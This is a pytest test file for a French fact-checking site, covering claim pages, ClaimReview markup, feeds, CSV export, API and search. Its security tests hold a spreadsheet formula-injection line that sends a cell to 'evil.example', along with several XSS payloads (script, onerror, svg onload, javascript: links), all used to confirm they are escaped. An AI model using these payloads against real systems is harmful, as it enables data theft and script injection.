"""Fact-checks as citizens and programs see them: claim pages, the list, feed, CSV, API and search."""

import csv
import io
import json
import re

import feedparser
import pytest

from kb.content.kinds import CLAIM as CLAIM_KIND
from kb.content.opendata import CLAIM_CSV_COLUMNS

from .conftest import CLAIM, CLAIM_FILE, DEMO_CONTENT, SOURCE, write

DEMO_CLAIMS = sorted(path.stem for path in (DEMO_CONTENT / "claims").glob("*.md"))
EXACT = "lille-metropole-85-communes-2012"  # accurate, rated 5
MILLION = "lille-metropole-1-9-million-habitants-2012"  # needs_context
ACTIONS = "mel-25-actions-mutualisation-depuis-2015"  # needs_context
PERCENT = "mel-95-pour-cent-communes-5-actions"  # unverifiable, off the rating scale
SIG_SLIDES = "lille-metropole-mission-sig-2012"
PRESS_RELEASE = "mel-communique-bilan-mutualisation-2019"


@pytest.fixture
def demo_client(tmp_path):
    from kb.web import create_app

    return create_app({"TESTING": True, "CONTENT_DIR": str(DEMO_CONTENT), "INSTANCE_DIR": str(tmp_path)}).test_client()


@pytest.fixture
def claim_client(content_dir, client):
    """The scratch tree's app, with one claim (accurate) quoting the scratch source."""
    write(content_dir / CLAIM_FILE, CLAIM)
    return client


def page(client, url):
    response = client.get(url)
    assert response.status_code == 200, url
    return response.get_data(as_text=True)


def claim_review(html):
    return json.loads(re.search(r'<script type="application/ld\+json">(.*?)</script>', html, re.S).group(1))


def listed_claims(html):
    """Claim ids linked from a list of claims, in the order shown."""
    return re.findall(r'<h3><a href="/affirmations/([a-z0-9-]+)">', html)


def highlighted_at(html, anchor):
    """Whether the passage starting at `anchor` is highlighted (it may start inside another's mark)."""
    tag = f'<span class="anchor" id="{anchor}"></span>'
    if html.count(tag) != 1:
        return False
    before, after = html.split(tag)
    inside_a_mark = before.count("<mark>") > before.count("</mark>")
    return inside_a_mark or re.match(r'(<span class="anchor" id="[^"]+"></span>)*<mark>', after) is not None


def rewrite(content_dir, old, new, name=CLAIM_FILE):
    path = content_dir / name
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


# -- the claim page ----------------------------------------------------------------------------


def test_claim_page_shows_the_verdict_badge_and_the_claim_quoted_with_who_and_when(demo_client):
    html = page(demo_client, f"/affirmations/{EXACT}")
    assert "<h1>« 85 communes » : un chiffre exact pour Lille Métropole en 2012, dépassé depuis</h1>" in html
    assert 'Verdict : <span class="badge verdict-accurate">exact</span>' in html
    assert '<p class="meta"><a href="/elus/lille-metropole">Lille Métropole</a>, <time datetime="2012-01-01">01/01/2012</time></p>' in html
    assert "<p>« Lille Métropole, C ’est.. […] 85 communes »</p>" in html
    assert 'vérifié le <time datetime="2026-11-23">23/11/2026</time>' in html


@pytest.mark.parametrize("verdict_id, badge", [(MILLION, "verdict-needs_context\">à nuancer"), (PERCENT, "verdict-unverifiable\">invérifiable")])
def test_each_verdict_shows_its_own_label(demo_client, verdict_id, badge):
    assert f'<span class="badge {badge}</span>' in page(demo_client, f"/affirmations/{verdict_id}")


def test_claim_page_renders_the_explanation_as_markdown(demo_client):
    html = page(demo_client, f"/affirmations/{EXACT}")
    assert '<h2 id="analyse">Notre analyse</h2>' in html
    assert "<strong>Deux chiffres justes, chacun à sa date.</strong>" in html


@pytest.mark.parametrize("claim_id", DEMO_CLAIMS)
def test_each_quote_links_to_its_highlighted_passage_on_the_source_page(demo_client, claim_id):
    claim, _ = CLAIM_KIND.read(DEMO_CONTENT / "claims" / f"{claim_id}.md")
    html = page(demo_client, f"/affirmations/{claim_id}")
    links = re.findall(r'href="/sources/([a-z0-9-]+)#(affirmation-[^"]+)"', html)
    expected = [(claim.quote.source, f"affirmation-{claim_id}-claim")]
    expected += [(proof.source, f"affirmation-{claim_id}-evidence-{proof.position}") for proof in claim.evidence]
    assert links == expected
    for source_id, anchor in links:
        source_page = page(demo_client, f"/sources/{source_id}")
        assert highlighted_at(source_page, anchor), anchor


def test_each_evidence_quote_shows_its_note(demo_client):
    html = page(demo_client, f"/affirmations/{EXACT}")
    evidence = html[html.index('<h2 id="preuves">') : html.index("</section>", html.index('<h2 id="preuves">'))]
    assert evidence.count("<blockquote>") == 3
    assert "<p>« Au service des 90 communes qui la composent »</p>\n        <p class=\"note\">En décembre 2019, la MEL indique compter 90 communes.</p>" in evidence
    assert '<p class="note">Le calendrier de la mission, qui court jusqu&#39;à décembre 2012, date le document de 2012.</p>' in evidence


def test_evidence_without_a_note_shows_no_empty_note(claim_client, content_dir):
    rewrite(content_dir, "    note: La délibération précise la répartition.\n", "")
    html = page(claim_client, "/affirmations/deux-balayeuses")
    assert "« une pour chaque commune »" in html and 'class="note"' not in html


def test_claim_page_lists_related_promises_with_their_status(demo_client):
    html = page(demo_client, f"/affirmations/{EXACT}")
    section = html[html.index('id="promesses-liees"') :]
    assert re.search(r'<a href="/promesses/lille-metropole-deliberation-cadre-sig">[^<]+</a> <span class="badge status-planned">prévue</span>', section)


def test_a_quote_not_found_in_its_source_is_flagged_not_linked(claim_client, content_dir):
    rewrite(content_dir, '"une pour chaque commune"', '"une pour toutes les communes"')
    html = page(claim_client, "/affirmations/deux-balayeuses")
    assert "citation non retrouvée dans ce document" in html
    assert re.findall(r'href="/sources/deliberation-test#([^"]+)"', html) == ["affirmation-deux-balayeuses-claim"]
    assert '<blockquote class="unverified">' in html


def test_a_quote_from_a_missing_source_says_so(claim_client, content_dir):
    rewrite(content_dir, "  - source: deliberation-test", "  - source: disparue")
    html = page(claim_client, "/affirmations/deux-balayeuses")
    assert "disparue <strong class=\"warning\">document source introuvable</strong>" in html
    assert 'href="/sources/disparue' not in html


@pytest.mark.parametrize("url", ["/affirmations/inconnue", "/affirmations/Majuscules", "/affirmations/../promesses"])
def test_an_unknown_claim_is_a_french_404_page(demo_client, url):
    response = demo_client.get(url)
    assert response.status_code == 404
    assert "Page introuvable" in response.get_data(as_text=True)


def test_a_claim_with_bad_yaml_is_not_published(claim_client, content_dir):
    rewrite(content_dir, "theme: Propreté", "theme: [Propreté")
    assert claim_client.get("/affirmations/deux-balayeuses").status_code == 404
    assert "deux-balayeuses" not in page(claim_client, "/affirmations")


def test_a_claim_with_a_file_error_is_not_published(claim_client, content_dir):
    rewrite(content_dir, "reviewed_on: 2023-01-15", "reviewed_on: 2023-02-30")
    assert claim_client.get("/affirmations/deux-balayeuses").status_code == 404
    assert claim_client.get("/api/claims").get_json()["total"] == 0


# -- ClaimReview ------------------------------------------------------------------------------


def test_claim_page_embeds_a_claim_review_of_the_quoted_claim(demo_client):
    data = claim_review(page(demo_client, f"/affirmations/{EXACT}"))
    assert data["@context"] == "https://schema.org" and data["@type"] == "ClaimReview"
    assert data["url"] == f"http://localhost/affirmations/{EXACT}"
    assert data["claimReviewed"] == "Lille Métropole, C ’est.. […] 85 communes"
    assert data["datePublished"] == "2026-11-23"
    assert data["author"] == {"@type": "Organization", "name": "kb"}
    assert data["itemReviewed"] == {
        "@type": "Claim",
        "author": {"@type": "Organization", "name": "Lille Métropole"},
        "datePublished": "2012-01-01",
        "appearance": [{"@type": "CreativeWork", "url": f"http://localhost/sources/{SIG_SLIDES}"}],
    }
    assert data["reviewRating"] == {"@type": "Rating", "alternateName": "exact", "ratingValue": 5, "bestRating": 5, "worstRating": 1}


@pytest.mark.parametrize("claim_id, label, rating", [(MILLION, "à nuancer", 3), (ACTIONS, "à nuancer", 3), (EXACT, "exact", 5)])
def test_a_rated_verdict_gives_its_rating(demo_client, claim_id, label, rating):
    review = claim_review(page(demo_client, f"/affirmations/{claim_id}"))["reviewRating"]
    assert (review["alternateName"], review["ratingValue"], review["bestRating"], review["worstRating"]) == (label, rating, 5, 1)


def test_an_unverifiable_verdict_has_a_label_but_no_rating(demo_client):
    review = claim_review(page(demo_client, f"/affirmations/{PERCENT}"))["reviewRating"]
    assert review == {"@type": "Rating", "alternateName": "invérifiable"}


def test_the_claims_appearance_is_the_sources_original_address_when_known(claim_client, content_dir):
    write(content_dir / "sources" / "deliberation-test.md", SOURCE.replace("reference:", "url: https://www.marcq-en-baroeul.org/deliberation.pdf\nreference:"))
    data = claim_review(page(claim_client, "/affirmations/deux-balayeuses"))
    assert data["itemReviewed"]["appearance"] == [{"@type": "CreativeWork", "url": "https://www.marcq-en-baroeul.org/deliberation.pdf"}]
    assert data["itemReviewed"]["author"]["name"] == "Ville de Marcq-en-Barœul"


def test_the_site_name_signs_the_claim_review(content_dir, tmp_path):
    from kb.web import create_app

    write(content_dir / CLAIM_FILE, CLAIM)
    app = create_app({"TESTING": True, "CONTENT_DIR": str(content_dir), "INSTANCE_DIR": str(tmp_path / "i"), "SITE_NAME": "La Voix vérifie"})
    data = claim_review(page(app.test_client(), "/affirmations/deux-balayeuses"))
    assert data["author"]["name"] == "La Voix vérifie"


def test_a_custom_verdict_is_rated_as_the_verdicts_file_says(claim_client, content_dir):
    write(content_dir / "verdicts.yml", 'vrai:\n  label: vrai de vrai\n  color: "#15803d"\n  rating: 4\n')
    rewrite(content_dir, "verdict: accurate", "verdict: vrai")
    html = page(claim_client, "/affirmations/deux-balayeuses")
    assert '<span class="badge verdict-vrai">vrai de vrai</span>' in html
    assert claim_review(html)["reviewRating"]["ratingValue"] == 4
    assert ".verdict-vrai { background: #15803d; }" in page(claim_client, "/statuts.css")


def test_a_claim_without_territory_or_theme_is_shown_without_them(claim_client, content_dir):
    rewrite(content_dir, "territory: Marcq-en-Barœul\ntheme: Propreté\n", "")
    html = page(claim_client, "/affirmations/deux-balayeuses")
    assert '<p class="kicker">Vérification</p>' in html
    listing = page(claim_client, "/affirmations")
    assert listed_claims(listing) == ["deux-balayeuses"] and "<h3>Territoire</h3>" not in listing and "<h3>Thème</h3>" not in listing
    data = claim_client.get("/api/claims/deux-balayeuses").get_json()
    assert (data["territory"], data["theme"]) == (None, None)
    found = claim_client.get("/api/search?q=répartition").get_json()
    assert [hit["id"] for hit in found["results"]] == ["deux-balayeuses"]
    assert found["facets"]["territory"] == {} and found["facets"]["theme"] == {}


def test_a_claim_with_a_verdict_missing_from_the_vocabulary_is_shown_with_its_key(claim_client, content_dir):
    rewrite(content_dir, "verdict: accurate", "verdict: vrai")  # kb check reports it; the site must not break
    html = page(claim_client, "/affirmations/deux-balayeuses")
    assert '<span class="badge verdict-unknown">vrai</span>' in html
    assert claim_review(html)["reviewRating"] == {"@type": "Rating", "alternateName": "vrai"}
    assert claim_client.get("/api/claims/deux-balayeuses").get_json()["rating"] is None
    assert 'href="/affirmations?verdict=vrai">vrai <span class="count">1</span>' in page(claim_client, "/affirmations")


# -- the list of claims -----------------------------------------------------------------------


def test_the_list_shows_every_claim_latest_verdict_first(demo_client):
    html = page(demo_client, "/affirmations")
    assert "4 vérifications</h2>" in html
    # All four were reviewed the same day: ties are broken by id, from z to a.
    assert listed_claims(html) == sorted(DEMO_CLAIMS, reverse=True)


def test_the_list_counts_the_claims_of_each_verdict_in_the_scales_order(demo_client):
    html = page(demo_client, "/affirmations")
    counts = re.findall(r'<a href="/affirmations\?verdict=([a-z_]+)">([^<]+) <span class="count">(\d+)</span>', html)
    assert counts == [("accurate", "exact", "1"), ("needs_context", "à nuancer", "2"), ("unverifiable", "invérifiable", "1")]


def test_the_list_filters_by_verdict(demo_client):
    html = page(demo_client, "/affirmations?verdict=needs_context")
    assert "2 vérifications</h2>" in html
    assert listed_claims(html) == [ACTIONS, MILLION]
    assert 'aria-current="true" href="/affirmations">à nuancer <span class="count">2</span>' in html


def test_the_list_orders_by_review_date(claim_client, content_dir):
    write(content_dir / "claims" / "plus-recente.md", CLAIM.replace("reviewed_on: 2023-01-15", "reviewed_on: 2024-03-01"))
    write(content_dir / "claims" / "zz-plus-ancienne.md", CLAIM.replace("reviewed_on: 2023-01-15", "reviewed_on: 2022-12-01"))
    assert listed_claims(page(claim_client, "/affirmations")) == ["plus-recente", "deux-balayeuses", "zz-plus-ancienne"]


@pytest.mark.parametrize("value, shown", [("vrai", "vrai"), ("inaccurate", "faux")])  # unknown; known but used by no claim
def test_an_unknown_verdict_filter_is_ignored_with_a_notice(demo_client, value, shown):
    html = page(demo_client, f"/affirmations?verdict={value}")
    assert f"Le filtre « Verdict : {shown} » ne correspond à aucune affirmation : il a été ignoré." in html
    assert "4 vérifications</h2>" in html
    assert f"verdict={value}" not in html.split("</h1>", 1)[1]  # no link carries the ignored filter on


def test_filters_combine_and_keep_the_others_choosable(demo_client):
    html = page(demo_client, "/affirmations?verdict=needs_context&claimed_by=lille-metropole")
    assert listed_claims(html) == [MILLION]
    # The verdict facet ignores its own filter: the other verdicts of that author stay listed.
    assert re.search(r'href="/affirmations\?verdict=accurate&amp;claimed_by=lille-metropole">exact <span class="count">1</span>', html)


def test_the_list_without_claims_says_so(client):
    html = page(client, "/affirmations")
    assert '<h2 id="liste">0 vérification</h2>' in html and listed_claims(html) == []
    assert "Aucune affirmation vérifiée n'est encore publiée." in html


# -- home page -------------------------------------------------------------------------------


def test_home_lists_the_latest_verdicts(demo_client):
    html = page(demo_client, "/")
    section = html[html.index('<h2 id="verifications">Dernières vérifications</h2>') : html.index('id="par-elu"')]
    assert listed_claims(section) == sorted(DEMO_CLAIMS, reverse=True)
    assert '<span class="badge verdict-unverifiable">invérifiable</span>' in section
    assert '<a href="/affirmations">Les 4 vérifications →</a>' in section


def test_home_shows_the_five_latest_verdicts_only(claim_client, content_dir):
    for day in range(1, 8):
        write(content_dir / "claims" / f"verification-{day}.md", CLAIM.replace("reviewed_on: 2023-01-15", f"reviewed_on: 2024-01-0{day}"))
    html = page(claim_client, "/")
    section = html[html.index("Dernières vérifications") : html.index('id="par-elu"')]
    assert listed_claims(section) == [f"verification-{day}" for day in (7, 6, 5, 4, 3)]
    assert "Les 8 vérifications →" in section


def test_home_without_claims_has_no_verdict_section(client):
    assert "Dernières vérifications" not in page(client, "/")


# -- feed ------------------------------------------------------------------------------------


def test_the_verdicts_feed_has_one_entry_per_claim(demo_client):
    response = demo_client.get("/affirmations.atom")
    assert response.mimetype == "application/atom+xml"
    feed = feedparser.parse(response.get_data())
    assert not feed.bozo
    assert feed.feed.title == "Vérifications : derniers verdicts"
    assert [entry.link for entry in feed.entries] == [f"http://localhost/affirmations/{claim_id}" for claim_id in sorted(DEMO_CLAIMS, reverse=True)]
    exact = next(entry for entry in feed.entries if entry.link.endswith(EXACT))
    assert exact.title.endswith(" : exact")
    assert exact.summary.startswith("Lille Métropole : « Lille Métropole, C ’est.. […] 85 communes » — exact.")
    assert "**" not in exact.summary  # the explanation's words, not its Markdown
    assert len({entry.id for entry in feed.entries}) == 4


def test_the_verdicts_feed_follows_the_lists_filters(demo_client):
    feed = feedparser.parse(demo_client.get("/affirmations.atom?verdict=needs_context").get_data())
    assert not feed.bozo
    assert sorted(entry.link.rsplit("/", 1)[1] for entry in feed.entries) == [MILLION, ACTIONS]
    assert all(entry.title.endswith(" : à nuancer") for entry in feed.entries)


def test_the_verdicts_feed_names_the_verdict_it_is_filtered_on_by_its_label(demo_client):
    feed = feedparser.parse(demo_client.get("/affirmations.atom?verdict=needs_context").get_data())
    assert feed.feed.title == "Vérifications — à nuancer"


def test_feed_summaries_are_cut_between_words(claim_client, content_dir):
    rewrite(content_dir, "La délibération confirme l'**achat** des deux balayeuses, une par commune.", "balayeuses " * 200)
    [entry] = feedparser.parse(claim_client.get("/affirmations.atom").get_data()).entries
    explanation = entry.summary.split(" — exact. ", 1)[1]
    assert explanation.endswith("balayeuses …") and len(explanation) <= 602


def test_a_new_verdict_on_the_same_day_is_a_new_feed_entry(claim_client, content_dir):
    before = feedparser.parse(claim_client.get("/affirmations.atom").get_data()).entries[0].id
    rewrite(content_dir, "verdict: accurate", "verdict: misleading")
    after = feedparser.parse(claim_client.get("/affirmations.atom").get_data()).entries[0].id
    assert before != after


def test_a_related_promise_named_by_its_old_id_still_links_both_ways(claim_client, content_dir):
    rewrite(content_dir, "  - balayeuses-communes", "  - balayeuses")  # an alias of the promise
    assert 'href="/promesses/balayeuses-communes"' in page(claim_client, "/affirmations/deux-balayeuses")
    assert 'href="/affirmations/deux-balayeuses"' in page(claim_client, "/promesses/balayeuses-communes")


def test_the_verdicts_feed_of_an_empty_tree_is_valid(client):
    feed = feedparser.parse(client.get("/affirmations.atom").get_data())
    assert not feed.bozo and feed.entries == []


# -- CSV export ------------------------------------------------------------------------------


def csv_rows(client, url="/export/claims.csv"):
    response = client.get(url)
    assert response.status_code == 200
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: spreadsheets read the accents right
    reader = csv.reader(io.StringIO(body.decode("utf-8-sig")))
    header = next(reader)
    return response, header, [dict(zip(header, row)) for row in reader]


def test_the_claims_csv_has_one_row_per_claim_with_every_column(demo_client):
    response, header, rows = csv_rows(demo_client)
    assert tuple(header) == CLAIM_CSV_COLUMNS == (
        "id", "titre", "verdict", "verdict_libelle", "auteur", "affirme_le", "citation", "source", "territoire",
        "theme", "verifie_le", "preuves", "promesses", "url",
    )  # fmt: skip
    assert 'filename="affirmations.csv"' in response.headers["Content-Disposition"]
    assert response.headers["Access-Control-Allow-Origin"] == "*"
    assert [row["id"] for row in rows] == sorted(DEMO_CLAIMS, reverse=True)
    row = next(row for row in rows if row["id"] == ACTIONS)
    assert row == {
        "id": ACTIONS,
        "titre": "« 25 actions de mutualisation déployées depuis 2015 » : un décompte à nuancer face aux « 18 dispositifs » de 2022",
        "verdict": "needs_context",
        "verdict_libelle": "à nuancer",
        "auteur": "Métropole européenne de Lille",
        "affirme_le": "2019-12-13",
        "citation": "25 actions de mutualisation ont été déployées depuis 2015",
        "source": PRESS_RELEASE,
        "territoire": "Métropole européenne de Lille",
        "theme": "Gouvernance",
        "verifie_le": "2026-11-23",
        "preuves": "5",
        "promesses": "mel-prochain-schema-mutualisation mel-etat-des-lieux-annuel",
        "url": f"http://localhost/affirmations/{ACTIONS}",
    }


def test_the_claims_csv_follows_the_lists_filters(demo_client):
    _, _, rows = csv_rows(demo_client, "/export/claims.csv?verdict=unverifiable")
    assert [row["id"] for row in rows] == [PERCENT]


def test_claims_csv_cells_can_never_be_read_as_formulas(claim_client, content_dir):
    rewrite(content_dir, 'title: "« Deux balayeuses » pour deux communes : exact"', 'title: \'=HYPERLINK("http://evil.example/?x="&A1,"clic")\'')
    rewrite(content_dir, "claimed_by: ville-de-marcq-en-baroeul", "claimed_by: '@SUM(1+1)'")
    rewrite(content_dir, "theme: Propreté", "theme: '+cmd'")
    rewrite(content_dir, "territory: Marcq-en-Barœul", "territory: '-2+3'")
    _, _, [row] = csv_rows(claim_client)
    assert row["titre"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"clic")'
    assert (row["auteur"], row["theme"], row["territoire"]) == ("'@SUM(1+1)", "'+cmd", "'-2+3")


# -- JSON API --------------------------------------------------------------------------------


def test_api_lists_the_claims_with_counts_latest_first(demo_client):
    response = demo_client.get("/api/claims")
    assert response.headers["Access-Control-Allow-Origin"] == "*"
    data = response.get_json()
    assert (data["total"], data["page"], data["pages"], data["per_page"]) == (4, 1, 1, 100)
    assert [claim["id"] for claim in data["claims"]] == sorted(DEMO_CLAIMS, reverse=True)
    assert data["counts"]["verdict"] == {"needs_context": 2, "accurate": 1, "unverifiable": 1}
    assert data["counts"]["claimed_by"] == {"lille-metropole": 2, "metropole-europeenne-de-lille": 2}
    assert data["filters"] == {} and data["ignored_filters"] == {}


def test_api_filters_claims_by_verdict_and_author(demo_client):
    data = demo_client.get("/api/claims?verdict=needs_context").get_json()
    assert data["total"] == 2 and {claim["verdict"] for claim in data["claims"]} == {"needs_context"}
    assert data["filters"] == {"verdict": "needs_context"}
    data = demo_client.get("/api/claims?claimed_by=lille-metropole&verdict=accurate").get_json()
    assert [claim["id"] for claim in data["claims"]] == [EXACT]


def test_api_reports_an_unknown_verdict_filter_and_ignores_it(demo_client):
    data = demo_client.get("/api/claims?verdict=vrai").get_json()
    assert data["ignored_filters"] == {"verdict": "vrai"} and data["total"] == 4 and data["filters"] == {}


def test_api_pages_through_the_claims(demo_client):
    pages = [demo_client.get(f"/api/claims?per_page=1&page={number}").get_json() for number in (1, 2, 3, 4)]
    assert [data["claims"][0]["id"] for data in pages] == sorted(DEMO_CLAIMS, reverse=True)
    assert {(data["pages"], data["per_page"], data["total"]) for data in pages} == {(4, 1, 4)}
    past_the_end = demo_client.get("/api/claims?per_page=3&page=9").get_json()
    assert past_the_end["page"] == 2 and len(past_the_end["claims"]) == 1
    assert demo_client.get("/api/claims?per_page=0").get_json()["per_page"] == 1
    assert demo_client.get("/api/claims?per_page=abc").get_json()["per_page"] == 1


def test_api_gives_one_claim_with_its_verdict_evidence_and_explanation(demo_client):
    response = demo_client.get(f"/api/claims/{EXACT}")
    assert response.headers["Access-Control-Allow-Origin"] == "*"
    data = response.get_json()
    assert set(data) == {
        "id", "url", "title", "claimed_by", "authors", "claimed_on", "claim", "territory", "theme", "verdict",
        "verdict_label", "rating", "reviewed_on", "evidence", "promises", "explanation",
    }  # fmt: skip
    assert data["url"] == f"http://localhost/affirmations/{EXACT}"
    assert (data["verdict"], data["verdict_label"], data["rating"]) == ("accurate", "exact", 5)
    assert (data["claimed_by"], data["claimed_on"], data["reviewed_on"]) == (["lille-metropole"], "2012-01-01", "2026-11-23")
    assert data["authors"] == [{"id": "lille-metropole", "name": "Lille Métropole", "url": "http://localhost/elus/lille-metropole"}]
    assert data["claim"] == {"source": SIG_SLIDES, "quote": "Lille Métropole, C ’est.. […] 85 communes"}
    assert data["evidence"][1] == {"source": PRESS_RELEASE, "quote": "Au service des 90 communes qui la composent", "note": "En décembre 2019, la MEL indique compter 90 communes."}
    assert len(data["evidence"]) == 3
    assert data["promises"] == ["lille-metropole-deliberation-cadre-sig"]
    assert data["explanation"].startswith("Les diapositives de la mission") and "**Deux chiffres justes" in data["explanation"]


def test_api_gives_no_rating_to_an_unverifiable_claim(demo_client):
    data = demo_client.get(f"/api/claims/{PERCENT}").get_json()
    assert (data["verdict_label"], data["rating"]) == ("invérifiable", None)


def test_api_unknown_claim_is_a_json_404_open_to_every_origin(demo_client):
    response = demo_client.get("/api/claims/inconnue")
    assert response.status_code == 404
    assert response.get_json() == {"error": "not_found", "message": "aucune affirmation « inconnue »"}
    assert response.headers["Access-Control-Allow-Origin"] == "*"


@pytest.mark.parametrize(
    "source_id, claims",
    [
        (SIG_SLIDES, [MILLION, EXACT]),
        (PRESS_RELEASE, sorted(DEMO_CLAIMS)),  # quoted by the two 2019 claims and as evidence by the 2012 ones
        ("villeneuve-dascq-deliberation-mutualisation-2022", [ACTIONS, PERCENT]),
        ("mediacites-aubry-mutualisation-2026", []),
    ],
)
def test_api_source_lists_the_claims_quoting_it(demo_client, source_id, claims):
    data = demo_client.get(f"/api/sources/{source_id}").get_json()
    assert data["cited_by_claims"] == claims


# -- source and promise pages ----------------------------------------------------------------


def test_source_page_lists_the_claims_quoting_it_with_their_verdicts(demo_client):
    html = page(demo_client, f"/sources/{SIG_SLIDES}")
    start = html.index('<h2 id="verifications">Vérifications qui citent ce document</h2>')
    section = html[start : html.index("</section>", start)]
    assert re.findall(r'<a href="/affirmations/([a-z0-9-]+)">', section) == [MILLION, EXACT]  # by title
    assert '<span class="badge verdict-accurate">exact</span>' in section
    assert '<span class="badge verdict-needs_context">à nuancer</span>' in section
    assert section.count("(l'affirmation vérifiée figure dans ce document)") == 2


def test_source_page_says_only_where_the_claim_itself_appears(demo_client):
    # The 2012 claims quote the 2019 press release as evidence only.
    html = page(demo_client, f"/sources/{PRESS_RELEASE}")
    section = html[html.index('id="verifications"') : html.index('id="texte"')]
    assert section.count("(l'affirmation vérifiée figure dans ce document)") == 2
    for claim_id in (MILLION, EXACT):
        item = re.search(rf'<li><a href="/affirmations/{claim_id}">.*?</li>', section, re.S).group(0)
        assert "figure dans ce document" not in item


def test_source_page_highlights_every_passage_the_claims_quote(claim_client):
    html = page(claim_client, "/sources/deliberation-test")
    assert '<span class="anchor" id="affirmation-deux-balayeuses-claim"></span>' in html
    assert '<span class="anchor" id="affirmation-deux-balayeuses-evidence-0"></span><mark>une pour chaque commune</mark>' in html
    assert "<mark>achat de deux balayeuses</mark>" in html
    assert "4 passages cités" in html  # two for the promise, two for the claim
    assert 'href="/affirmations/deux-balayeuses"' in html


def test_source_page_without_claims_has_no_claims_section(demo_client):
    html = page(demo_client, "/sources/mediacites-aubry-mutualisation-2026")
    assert "Vérifications qui citent ce document" not in html and "affirmation-" not in html


def test_promise_page_lists_its_related_claims_latest_first(demo_client):
    html = page(demo_client, "/promesses/mel-prochain-schema-mutualisation")
    section = html[html.index('<h2 id="verifications">Vérifications liées</h2>') :]
    section = section[: section.index("</section>")]
    assert re.findall(r'<a href="/affirmations/([a-z0-9-]+)">', section) == [PERCENT, ACTIONS]
    assert '<span class="badge verdict-unverifiable">invérifiable</span>' in section
    assert '<span class="badge verdict-needs_context">à nuancer</span>' in section


def test_promise_page_without_claims_has_no_claims_section(demo_client):
    assert "Vérifications liées" not in page(demo_client, "/promesses/marcq-la-madeleine-balayeuses")


# -- search ----------------------------------------------------------------------------------


def test_search_for_claims_returns_only_claims_with_their_verdicts(demo_client):
    data = demo_client.get("/api/search?kind=claim").get_json()
    assert data["total"] == 4
    assert {(hit["kind"], hit["status"]) for hit in data["results"]} == {("claim", None)}
    assert {hit["id"]: hit["verdict"] for hit in data["results"]} == {
        EXACT: "accurate", MILLION: "needs_context", ACTIONS: "needs_context", PERCENT: "unverifiable",
    }  # fmt: skip
    assert {hit["url"] for hit in data["results"]} == {f"/affirmations/{claim_id}" for claim_id in DEMO_CLAIMS}


def test_search_filters_by_verdict(demo_client):
    data = demo_client.get("/api/search?verdict=needs_context").get_json()
    assert sorted(hit["id"] for hit in data["results"]) == [MILLION, ACTIONS]
    assert data["facets"]["kind"] == {"claim": 2}


def test_search_counts_the_verdicts(demo_client):
    data = demo_client.get("/api/search?q=communes").get_json()
    assert data["facets"]["verdict"] == {"needs_context": 2, "accurate": 1, "unverifiable": 1}
    data = demo_client.get("/api/search?q=communes&verdict=accurate").get_json()
    assert [hit["id"] for hit in data["results"]] == [EXACT]
    assert data["facets"]["verdict"] == {"needs_context": 2, "accurate": 1, "unverifiable": 1}  # its own filter aside


def test_a_word_found_only_in_a_claims_explanation_finds_the_claim(demo_client):
    data = demo_client.get("/api/search?q=Kortrijk").get_json()
    assert [(hit["kind"], hit["id"]) for hit in data["results"]] == [("claim", MILLION)]
    assert "<mark>Kortrijk</mark>" in data["results"][0]["snippet"]


def test_a_word_found_only_in_an_evidence_note_finds_the_claim(claim_client):
    data = claim_client.get("/api/search?q=répartition").get_json()
    assert [(hit["kind"], hit["id"]) for hit in data["results"]] == [("claim", "deux-balayeuses")]


def test_search_page_shows_a_claim_with_its_verdict_badge(demo_client):
    html = page(demo_client, "/recherche?q=Kortrijk")
    assert f'<h3><a href="/affirmations/{MILLION}">' in html
    assert 'Vérification · <span class="badge verdict-needs_context">à nuancer</span>' in html
    assert re.search(r'<a href="/recherche\?q=Kortrijk&amp;verdict=needs_context">à nuancer <span class="count">1</span>', html)


# -- content that must never reach a page as markup -------------------------------------------

PAYLOADS = {
    "title": ('title: "« Deux balayeuses » pour deux communes : exact"', 'title: "<script>alert(1)</script> balayeuses"'),
    "claimed_by": ("claimed_by: ville-de-marcq-en-baroeul", 'claimed_by: "</script><script>alert(1)</script>"'),
    "note": ("    note: La délibération précise la répartition.", '    note: "<img src=x onerror=alert(1)>"'),
    "territory": ("territory: Marcq-en-Barœul", 'territory: "<svg onload=alert(1)>"'),
    "theme": ("theme: Propreté", 'theme: "<script>alert(1)</script>"'),
    "explanation": (
        "La délibération confirme",
        '<script>alert(1)</script> [x](javascript:alert(1)) <img src=x onerror="alert(1)"> <svg onload=alert(1)> balayeuses. La délibération confirme',
    ),
}
PAGES = (
    "/affirmations/deux-balayeuses",
    "/affirmations",
    "/",
    "/recherche?q=balayeuses",
    "/recherche?kind=claim",
    "/sources/deliberation-test",
    "/promesses/balayeuses-communes",
)


@pytest.mark.parametrize("field", sorted(PAYLOADS))
def test_markup_in_a_claim_field_never_reaches_a_page(claim_client, content_dir, field):
    rewrite(content_dir, *PAYLOADS[field])
    assert claim_client.get("/affirmations/deux-balayeuses").status_code == 200  # published despite it
    for url in PAGES:
        html = page(claim_client, url)
        assert "<script>alert" not in html and "<img src=x" not in html and "<svg onload" not in html, url
        assert "javascript:" not in html, url
    feed = claim_client.get("/affirmations.atom").get_data(as_text=True)
    assert "<script>alert" not in feed and "<img src=x" not in feed and not feedparser.parse(feed).bozo


@pytest.mark.parametrize("field", ["title", "claimed_by", "territory", "theme"])
def test_markup_in_a_claim_field_is_shown_as_text(claim_client, content_dir, field):
    rewrite(content_dir, *PAYLOADS[field])
    html = page(claim_client, "/affirmations/deux-balayeuses")
    shown = PAYLOADS[field][1].split(": ", 1)[1].strip('"').replace("<", "&lt;").replace(">", "&gt;")
    assert shown in html


def test_markup_in_a_claim_survives_as_text_in_the_claim_review(claim_client, content_dir):
    rewrite(content_dir, *PAYLOADS["claimed_by"])
    data = claim_review(page(claim_client, "/affirmations/deux-balayeuses"))
    assert data["itemReviewed"]["author"]["name"] == "</script><script>alert(1)</script>"


# -- content edited on disk ------------------------------------------------------------------


def test_a_claim_edited_on_disk_shows_its_new_verdict_at_the_next_request(claim_client, content_dir):
    assert '<span class="badge verdict-accurate">exact</span>' in page(claim_client, "/affirmations/deux-balayeuses")
    assert claim_client.get("/api/claims/deux-balayeuses").get_json()["verdict"] == "accurate"
    rewrite(content_dir, "verdict: accurate", "verdict: inaccurate")
    html = page(claim_client, "/affirmations/deux-balayeuses")
    assert '<span class="badge verdict-inaccurate">faux</span>' in html and "verdict-accurate" not in html
    assert claim_review(html)["reviewRating"]["ratingValue"] == 1
